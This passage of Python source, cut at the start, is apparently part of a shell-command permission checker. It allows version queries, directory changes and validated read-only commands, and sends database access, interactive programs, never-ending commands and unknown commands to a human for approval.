    ):
        return False
    return args == ["--version"] or (args == ["-V"] and name in _SHORT_VERSION)


# A database's rows are outside the repository: by default a human decides; a policy that says
# so lets read-only statements against this machine's server run (commands.local_databases).
_DATABASE_HELD = (
    "reads a database server: a human decides "
    "(`[commands] local_database_reads = true` in the policy allows read-only statements "
    "against this machine)"
)


def baseline_allow(name: str, words: list[Word], ctx: Ctx, code: list[Finding]) -> list[Finding]:
    """Allow read-only diagnostics; everything else needs a human."""
    data = tables()
    text = argv_text(words)
    args = [word.text for word in words[1:]]
    lowered = name.lower()
    if code:
        return code
    if _version_query(lowered, args):
        ctx.allowed.append(f"{name} {args[0]}")
        return [allow("prints its version or usage")]  # vim --version, ssh -V: nothing runs
    database = lowered in data.sql_clients or lowered in ("mongosh", "mongo")
    if database and not ctx.rules.local_databases:
        return [approve(f"{text!r}: {_DATABASE_HELD}")]
    if lowered in data.interactive and not database:
        return [approve(f"{text!r}: interactive program, it would hang")]
    if lowered in data.unbounded:
        return [approve(f"{text!r}: never stops by itself")]
    if lowered in ("cd", "pushd", "popd"):
        ctx.allowed.append(lowered)
        return [allow("changes directory")]
    validator = validator_for(lowered) or validator_for(windows_name(lowered))
    if validator is None:
        return [approve(f"{text!r}: {name} is not a known read-only command")]
    problem = validator(args, ctx.cwd[0])
    if problem is not None:
        return [approve(f"{text!r}: {problem}")]
    label = (
        name
        if name not in ("git", "docker", "kubectl", "systemctl") or not args
        else f"{name} {_subcommand(args)}"
    )
    ctx.allowed.append(label)
    return [allow(f"{label} is read-only")]
